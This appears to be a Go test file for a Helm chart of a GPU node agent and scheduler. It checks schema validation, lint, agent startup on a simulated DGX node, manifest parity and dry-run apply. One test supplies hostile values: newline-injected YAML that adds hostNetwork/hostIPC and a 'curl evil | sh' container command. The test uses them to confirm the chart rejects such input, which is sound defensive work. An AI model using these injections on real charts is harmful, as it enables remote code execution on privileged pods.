		{name: "node labels", values: map[string]any{"agent": map[string]any{"nodeLabels": "yes"}}, want: "/agent/nodeLabels"},
		{name: "port", values: map[string]any{"agent": map[string]any{"port": 70000}}, want: "/agent/port"},
		{name: "scheduler policy", values: map[string]any{"scheduler": map[string]any{"policy": "fastest"}}, want: "/scheduler/policy"},
		{name: "cpu affinity", values: map[string]any{"agent": map[string]any{"enforcement": map[string]any{"cpuAffinity": "numa"}}}, want: "/agent/enforcement/cpuAffinity"},
		{name: "relative NRI socket", values: map[string]any{"agent": map[string]any{"enforcement": map[string]any{"nriSocket": "nri.sock"}}}, want: "/agent/enforcement/nriSocket"},
		{name: "enforcement key", values: map[string]any{"agent": map[string]any{"enforcement": map[string]any{"isolate": true}}}, want: "isolate"},
		{name: "MPS root", values: map[string]any{"agent": map[string]any{"mps": map[string]any{"root": "run/mps"}}}, want: "/agent/mps/root"},
		{name: "MPS on", values: map[string]any{"agent": map[string]any{"mps": map[string]any{"enabled": "yes"}}}, want: "/agent/mps/enabled"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := helmRender(t, tc.values, false)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("render with %v: err = %v, want one naming %s", tc.values, err, tc.want)
			}
		})
	}
}

// TestHelmLint: `helm lint` finds nothing above INFO, with the default
// values and in DRA mode.
func TestHelmLint(t *testing.T) {
	enforcement := map[string]any{"agent": map[string]any{"enforcement": map[string]any{"hostMounts": true, "cpuAffinity": "align"}, "mps": map[string]any{"driverRoot": "/run/nvidia/driver"}}}
	for _, vals := range []map[string]any{nil, {"mode": "dra", "scheduler": map[string]any{"enabled": true}}, enforcement} {
		l := lint.RunAll(helmChartDir, vals, "gpud", lint.WithKubeVersion(&helmKubeVersion))
		for _, m := range l.Messages {
			if m.Severity > support.InfoSev {
				t.Errorf("helm lint (values %v): %v", vals, m)
			}
		}
	}
}

// TestHelmChartAgentStarts runs `gpud agent` on a simulated dgx-h100 with
// exactly the chart's args and config (sharing on, a MIG layout applied),
// its host paths moved under the test's dir as the pod's mounts would put
// them, and waits for its metrics.
func TestHelmChartAgentStarts(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs the gpud binary")
	}
	layouts := map[string]any{"version": "v1", "mig-configs": map[string]any{
		"two": []any{map[string]any{"devices": []any{0}, "mig-enabled": true, "mig-devices": map[string]any{"3g.40gb": 2}}},
	}}
	objs := helmMustRender(t, map[string]any{"agent": map[string]any{
		"sharing":    map[string]any{"devices": map[string]any{"7": map[string]any{"replicas": 4, "limitMemory": true}}},
		"migLayouts": layouts, "migConfig": "two", "sampleInterval": "1s",
	}}, false)
	_, c, cm := helmAgent(t, objs)
	bin := buildGpud(t)
	dir := shortDir(t)
	root := filepath.Join(dir, "h") // the host as the pod sees it
	etc := filepath.Join(root, "etc", "gpud")
	if err := os.MkdirAll(etc, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, data := range cm.Data {
		data = strings.ReplaceAll(data, "/etc/gpud/", etc+"/")
		if err := os.WriteFile(filepath.Join(etc, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	addr := k8senv.FreeAddr(t)
	var args []string
	for _, a := range c.Args[1:] {
		name, val, _ := strings.Cut(a, "=")
		switch {
		case name == "--http-addr":
			val = addr
		case strings.HasPrefix(val, "/"):
			val = filepath.Join(root, val)
			if err := os.MkdirAll(filepath.Dir(val), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		args = append(args, name+"="+val)
	}
	args = append(args, "--simulate=dgx-h100", "--sim-state-file="+filepath.Join(dir, "sim.json"), "--mig-reset-gpus", "--node-labels=false")
	startAgent(t, bin, dir, args...)
	// The config's MIG layout is applied: its slices are on /metrics.
	testwait.ForErr(t, waitTimeout, "the chart's MIG layout on /metrics", func() error {
		mfs, err := monGather("http://" + addr + "/metrics")
		if err != nil {
			return err
		}
		n := 0
		for _, l := range telLabels(mfs["gpud_mig_device_info"]) {
			if l["GPU_I_PROFILE"] == "3g.40gb" && l["gpu"] == "0" {
				n++
			}
		}
		if n != 2 {
			return fmt.Errorf("%d 3g.40gb slices on GPU 0, want 2", n)
		}
		return nil
	})
	// And its sharing config is the one in force.
	admin := adminapi.NewClient(filepath.Join(root, "run", "gpud", "admin.sock"), 30*time.Second)
	var got struct {
		Devices map[string]struct{ Replicas int } `json:"devices"`
	}
	if err := admin.Call(t.Context(), "GET", "/v1/sharing", nil, &got); err != nil || got.Devices["7"].Replicas != 4 {
		t.Errorf("GET /v1/sharing = %+v, %v; want GPU 7 in 4 replicas from the chart's sharing.yaml", got, err)
	}
}

// TestHelmChartSchedulerMatchesManifests: the chart's scheduler equals
// deploy/scheduler in everything that runs it and in its RBAC, its crds/
// holds deploy/scheduler's PodGroup CRD, and values.schema.json offers
// exactly the allocator's policies.
func TestHelmChartSchedulerMatchesManifests(t *testing.T) {
	objs := helmMustRender(t, map[string]any{"mode": "dra", "scheduler": map[string]any{"enabled": true}}, false)
	got := objs["Deployment/gpud-scheduler"].(*appsv1.Deployment)
	want := helmManifest(t, "../deploy/scheduler/deployment.yaml", "Deployment/gpud-scheduler").(*appsv1.Deployment)
	gc, wc := got.Spec.Template.Spec.Containers[0], want.Spec.Template.Spec.Containers[0]
	gs, ws := got.Spec.Template.Spec, want.Spec.Template.Spec
	repo := func(image string) string { r, _, _ := strings.Cut(image, ":"); return r }
	for _, f := range []struct {
		name      string
		got, want any
	}{
		{"image repository", repo(gc.Image), repo(wc.Image)},
		{"args", gc.Args, wc.Args},
		{"env", gc.Env, wc.Env},
		{"ports", gc.Ports, wc.Ports},
		{"livenessProbe", gc.LivenessProbe, wc.LivenessProbe},
		{"readinessProbe", gc.ReadinessProbe, wc.ReadinessProbe},
		{"resources", gc.Resources, wc.Resources},
		{"securityContext", gc.SecurityContext, wc.SecurityContext},
		{"pod securityContext", gs.SecurityContext, ws.SecurityContext},
		{"priorityClassName", gs.PriorityClassName, ws.PriorityClassName},
		{"replicas", got.Spec.Replicas, want.Spec.Replicas},
		{"strategy", got.Spec.Strategy, want.Spec.Strategy},
	} {
		if !reflect.DeepEqual(f.got, f.want) {
			gj, _ := json.Marshal(f.got)
			wj, _ := json.Marshal(f.want)
			t.Errorf("scheduler %s differs from deploy/scheduler/deployment.yaml:\nchart: %s\nfile:  %s", f.name, gj, wj)
		}
	}
	for _, key := range []string{"ClusterRole/gpud-scheduler", "Role/gpud-scheduler-leader-election", "Role/gpud-scheduler-runtimes"} {
		var g, w []rbacv1.PolicyRule
		switch o := objs[key].(type) {
		case *rbacv1.ClusterRole:
			g, w = o.Rules, helmManifest(t, "../deploy/scheduler/rbac.yaml", key).(*rbacv1.ClusterRole).Rules
		case *rbacv1.Role:
			g, w = o.Rules, helmManifest(t, "../deploy/scheduler/rbac.yaml", key).(*rbacv1.Role).Rules
		default:
			t.Fatalf("no %s", key)
		}
		if !reflect.DeepEqual(g, w) {
			t.Errorf("%s rules %+v, deploy/scheduler/rbac.yaml %+v", key, g, w)
		}
	}
	ch, err := loader.Load(helmChartDir)
	if err != nil {
		t.Fatal(err)
	}
	crds := ch.CRDObjects()
	if len(crds) != 2 {
		t.Errorf("the chart's crds/ has %d files, want podgroup-crd.yaml and queue-crd.yaml", len(crds))
	}
	for _, c := range crds {
		crd, err := os.ReadFile("../deploy/scheduler/" + filepath.Base(c.Filename))
		if err != nil || !bytes.Equal(c.File.Data, crd) {
			t.Errorf("the chart's %s is not deploy/scheduler/%s (%v)", c.Filename, filepath.Base(c.Filename), err)
		}
	}
	for _, key := range []string{"ClusterRole/gpud-queue-admin", "ClusterRole/gpud-queue-reader"} {
		g, ok := objs[key].(*rbacv1.ClusterRole)
		if !ok || !reflect.DeepEqual(g.Rules, helmManifest(t, "../deploy/scheduler/queue-admission.yaml", key).(*rbacv1.ClusterRole).Rules) {
			t.Errorf("the chart's %s differs from deploy/scheduler/queue-admission.yaml's", key)
		}
	}
	if vap, ok := objs["ValidatingAdmissionPolicy/gpud-queue-namespace-label"].(*admissionv1.ValidatingAdmissionPolicy); !ok ||
		!reflect.DeepEqual(vap.Spec, helmManifest(t, "../deploy/scheduler/queue-admission.yaml", "ValidatingAdmissionPolicy/gpud-queue-namespace-label").(*admissionv1.ValidatingAdmissionPolicy).Spec) {
		t.Error("the chart's ValidatingAdmissionPolicy gpud-queue-namespace-label differs from deploy/scheduler/queue-admission.yaml's")
	}
	var schema struct {
		Properties struct {
			Scheduler struct {
				Properties struct {
					Policy struct {
						Enum []string `json:"enum"`
					} `json:"policy"`
				} `json:"properties"`
			} `json:"scheduler"`
		} `json:"properties"`
	}
	data, err := os.ReadFile(filepath.Join(helmChartDir, "values.schema.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &schema); err != nil {
		t.Fatal(err)
	}
	if got := schema.Properties.Scheduler.Properties.Policy.Enum; !slices.Equal(got, allocator.PolicyNames) {
		t.Errorf("values.schema.json scheduler.policy %v, the allocator's policies %v", got, allocator.PolicyNames)
	}
}

// TestHelmChartServerSideDryRun applies what the chart renders to a real
// kube-apiserver (test/k8senv) with server-side apply, dry run and strict
// field validation, the way `helm install` then the API server would see
// it: the chart's CRDs first (really applied, as Helm installs crds/), then
// every object of each render. The Prometheus Operator's kinds are left
// out: the test API server has no monitoring.coreos.com CRDs (they are
// decoded strictly into the operator's types in TestHelmChart).
func TestHelmChartServerSideDryRun(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a kube-apiserver")
	}
	env := k8senv.Start(t, k8senv.WithoutScheduler())
	dyn, err := dynamic.NewForConfig(env.Config)
	if err != nil {
		t.Fatal(err)
	}
	mapper := restmapper.NewDeferredDiscoveryRESTMapper(memory.NewMemCacheClient(env.Client.Discovery()))
	apply := func(t *testing.T, doc []byte, dryRun bool) error {
		js, err := yaml.YAMLToJSON(doc)
		if err != nil {
			return err
		}
		var u unstructured.Unstructured
		if err := u.UnmarshalJSON(js); err != nil {
			return err
		}
		gvk := u.GroupVersionKind()
		m, err := mapper.RESTMapping(gvk.GroupKind(), gvk.Version)
		if err != nil {
			mapper.Reset()
			if m, err = mapper.RESTMapping(gvk.GroupKind(), gvk.Version); err != nil {
				return fmt.Errorf("%s: %w", gvk, err)
			}
		}
		var ri dynamic.ResourceInterface = dyn.Resource(m.Resource)
		if m.Scope.Name() == meta.RESTScopeNameNamespace {
			ri = dyn.Resource(m.Resource).Namespace(u.GetNamespace())
		}
		opts := metav1.PatchOptions{FieldManager: "helm-test", Force: ptrTo(true), FieldValidation: "Strict"}
		if dryRun {
			opts.DryRun = []string{metav1.DryRunAll}
		}
		_, err = ri.Patch(t.Context(), u.GetName(), types.ApplyPatchType, js, opts)
		if err != nil {
			return fmt.Errorf("%s %s: %w", gvk.Kind, u.GetName(), err)
		}
		return nil
	}

	ch, err := loader.Load(helmChartDir)
	if err != nil {
		t.Fatal(err)
	}
	for _, crd := range ch.CRDObjects() {
		for _, doc := range bytes.Split(crd.File.Data, []byte("\n---")) {
			if len(bytes.TrimSpace(stripComments(doc))) == 0 {
				continue
			}
			if err := apply(t, doc, false); err != nil {
				t.Fatalf("CRD %s: %v", crd.Filename, err)
			}
		}
	}
	if err := apply(t, []byte("apiVersion: v1\nkind: Namespace\nmetadata: {name: gpud}\n"), false); err != nil {
		t.Fatal(err)
	}
	queues, err := os.ReadFile("../deploy/scheduler/examples/queues.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var q map[string]any
	if err := yaml.Unmarshal(queues, &q); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name   string
		values map[string]any
	}{
		{name: "defaults"},
		{name: "dra with the scheduler", values: map[string]any{"mode": "dra", "scheduler": map[string]any{"enabled": true, "queues": q}}},
		{name: "node labels", values: map[string]any{"agent": map[string]any{"nodeLabels": true}}},
		{name: "enforcement and MPS", values: map[string]any{"agent": map[string]any{
			"enforcement": map[string]any{"hostMounts": true, "cpuAffinity": "align"},
			"mps":         map[string]any{"driverRoot": "/run/nvidia/driver", "root": "/var/lib/gpud-mps"},
		}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files, err := helmTemplate(t, tc.values, false)
			if err != nil {
				t.Fatal(err)
			}
			n := 0
			for _, name := range slices.Sorted(maps.Keys(files)) {
				for _, doc := range bytes.Split([]byte(files[name]), []byte("\n---")) {
					if len(bytes.TrimSpace(stripComments(doc))) == 0 {
						continue
					}
					if err := apply(t, doc, true); err != nil {
						t.Errorf("%s: %v", name, err)
					}
					n++
				}
			}
			if n < 5 {
				t.Errorf("applied %d objects, want the chart's", n)
			}
		})
	}
}

func ptrTo[T any](v T) *T { return &v }

// TestHelmHostileValues: a value is text, never YAML. A newline in a
// string value (an image tag, a name, a class name) must not add fields
// to the privileged agent's pod (a command, host namespaces): the install
// is refused, or what renders carries the value as one string. And
// values.schema.json refuses, naming the value, what Kubernetes or the
// image reference grammar would refuse only later (on a node, at pull
// time, or in the middle of an install).
func TestHelmHostileValues(t *testing.T) {
	const cmd = "\n          command: [\"/bin/sh\", \"-c\", \"curl evil | sh\"]"
	for _, tc := range []struct {
		name   string
		values map[string]any
	}{
		{name: "image tag", values: map[string]any{"image": map[string]any{"tag": "v1" + cmd}}},
		{name: "image repository", values: map[string]any{"image": map[string]any{"repository": "ghcr.io/gpud/gpud" + cmd + " #"}}},
		{name: "fullnameOverride", values: map[string]any{"fullnameOverride": "gpud\n      hostNetwork: true"}},
		{name: "nameOverride", values: map[string]any{"nameOverride": "gpud\n      hostNetwork: true"}},
		{name: "priority class", values: map[string]any{"agent": map[string]any{"priorityClassName": "system-node-critical\n      hostNetwork: true"}}},
		{name: "runtime class", values: map[string]any{"agent": map[string]any{"runtimeClassName": "nvidia\n      hostIPC: true"}}},
		{name: "scheduler priority class", values: map[string]any{"mode": "dra", "scheduler": map[string]any{"enabled": true,
			"priorityClassName": "system-cluster-critical\n      hostNetwork: true"}}},
		{name: "extra args", values: map[string]any{"agent": map[string]any{"extraArgs": []any{"--log-level=debug" + cmd}}}},
		{name: "pod annotations", values: map[string]any{"agent": map[string]any{"podAnnotations": map[string]any{"a": "b" + cmd}}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files, err := helmTemplate(t, tc.values, false)
			if err != nil {
				t.Logf("refused: %v", err)
				return
			}
			for _, name := range slices.Sorted(maps.Keys(files)) {
				for i, doc := range bytes.Split([]byte(files[name]), []byte("\n---")) {
					if len(bytes.TrimSpace(stripComments(doc))) == 0 {
						continue
					}
					obj, err := helmDecode(doc)
					if err != nil {
						// Not YAML an install would send: refused, but by
						// accident; the schema should have said why.
						t.Errorf("%s doc %d does not decode (%v): the schema should refuse the value", name, i, err)
						continue
					}
					var spec *corev1.PodSpec
					switch o := obj.(type) {
					case *appsv1.DaemonSet:
						spec = &o.Spec.Template.Spec
					case *appsv1.Deployment:
						spec = &o.Spec.Template.Spec
					default:
						continue
					}
					if spec.HostNetwork || spec.HostIPC {
						t.Errorf("%s: the value added host namespaces to the pod (hostNetwork %v, hostIPC %v)", name, spec.HostNetwork, spec.HostIPC)
					}
					for _, c := range spec.Containers {
						if len(c.Command) != 0 {
							t.Errorf("%s: the value set container %s's command %q", name, c.Name, c.Command)
						}
					}
				}
			}
		})
	}

	long := strings.Repeat("a", 64)
	for _, tc := range []struct {
		name   string
		values map[string]any
		want   string // in the error
	}{
		{name: "tag with a space", values: map[string]any{"image": map[string]any{"tag": "v1 beta"}}, want: "/image/tag"},
		{name: "tag too long", values: map[string]any{"image": map[string]any{"tag": strings.Repeat("1", 129)}}, want: "/image/tag"},
		{name: "tag with a digest", values: map[string]any{"image": map[string]any{"tag": "v1@sha256:abc"}}, want: "/image/tag"},
		{name: "uppercase repository path", values: map[string]any{"image": map[string]any{"repository": "ghcr.io/You/gpud"}}, want: "/image/repository"},
		{name: "repository with a tag", values: map[string]any{"image": map[string]any{"repository": "ghcr.io/you/gpud:v1"}}, want: "/image/repository"},
		{name: "uppercase fullname", values: map[string]any{"fullnameOverride": "GPUD"}, want: "/fullnameOverride"},
		{name: "fullname too long", values: map[string]any{"fullnameOverride": long}, want: "/fullnameOverride"},
		{name: "name with underscore", values: map[string]any{"nameOverride": "gpud_agent"}, want: "/nameOverride"},
		{name: "priority class", values: map[string]any{"agent": map[string]any{"priorityClassName": "System Critical"}}, want: "/agent/priorityClassName"},
		{name: "runtime class", values: map[string]any{"agent": map[string]any{"runtimeClassName": "NVIDIA"}}, want: "/agent/runtimeClassName"},
		{name: "scheduler priority class", values: map[string]any{"scheduler": map[string]any{"priorityClassName": "a b"}}, want: "/scheduler/priorityClassName"},
		{name: "pull secret", values: map[string]any{"imagePullSecrets": []any{map[string]any{"name": "my secret"}}}, want: "/imagePullSecrets/0/name"},
		{name: "extra arg with a newline", values: map[string]any{"agent": map[string]any{"extraArgs": []any{"--log-level=debug\n--mps=false"}}}, want: "/agent/extraArgs/0"},
		{name: "MIG config with a newline", values: map[string]any{"agent": map[string]any{"migConfig": "two\nthree"}}, want: "/agent/migConfig"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := helmTemplate(t, tc.values, false)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("render with %q: err = %v, want one naming %s", tc.values, err, tc.want)
			}
		})
	}
	// And what users set today still renders.
	for _, vals := range []map[string]any{
		{"image": map[string]any{"repository": "localhost:5000/gpud", "tag": "v0.1.0-rc.1_2"}},
		{"image": map[string]any{"repository": "registry.example.com/team/gpu/gpud", "tag": ""}},
		{"fullnameOverride": "gpu-agent", "nameOverride": "gpud2"},
		{"agent": map[string]any{"priorityClassName": "", "runtimeClassName": "nvidia-cdi"}},
	} {
		if _, err := helmTemplate(t, vals, false); err != nil {
			t.Errorf("render with %v: %v", vals, err)
		}
	}
}

// TestHelmExtraEnv: agent.extraEnv and scheduler.extraEnv reach their
// containers after the chart's own variables, as given (a clusters without
// kube-proxy points its pods at the API server with
// KUBERNETES_SERVICE_HOST and KUBERNETES_SERVICE_PORT); an entry without a
// name, or with one no container runtime takes, is refused.
func TestHelmExtraEnv(t *testing.T) {
	env := []any{
		map[string]any{"name": "KUBERNETES_SERVICE_HOST", "value": "10.1.2.3"},
		map[string]any{"name": "KUBERNETES_SERVICE_PORT", "value": "6443"},
	}
	want := []corev1.EnvVar{{Name: "KUBERNETES_SERVICE_HOST", Value: "10.1.2.3"}, {Name: "KUBERNETES_SERVICE_PORT", Value: "6443"}}
	objs := helmMustRender(t, map[string]any{"mode": "dra", "agent": map[string]any{"extraEnv": env},
		"scheduler": map[string]any{"enabled": true, "extraEnv": env}}, false)
	_, c, _ := helmAgent(t, objs)
	if got := c.Env[len(c.Env)-2:]; !reflect.DeepEqual(got, want) {
		t.Errorf("agent env ends %+v, want %+v", got, want)
	}
	dep, ok := objs["Deployment/gpud-scheduler"].(*appsv1.Deployment)
	if !ok {
		t.Fatalf("no Deployment gpud-scheduler in %v", slices.Sorted(maps.Keys(objs)))
	}
	sc := dep.Spec.Template.Spec.Containers[0]
	if got := sc.Env[len(sc.Env)-2:]; !reflect.DeepEqual(got, want) {
		t.Errorf("scheduler env ends %+v, want %+v", got, want)
	}
	for _, tc := range []struct {
		name   string
		values map[string]any
		want   string
	}{
		{name: "no name", values: map[string]any{"agent": map[string]any{"extraEnv": []any{map[string]any{"value": "x"}}}}, want: "/agent/extraEnv/0"},
		{name: "bad name", values: map[string]any{"scheduler": map[string]any{"extraEnv": []any{map[string]any{"name": "A=B", "value": "x"}}}}, want: "/scheduler/extraEnv/0/name"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := helmTemplate(t, tc.values, false)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("render with %v: err = %v, want one naming %s", tc.values, err, tc.want)
			}
		})
	}
}
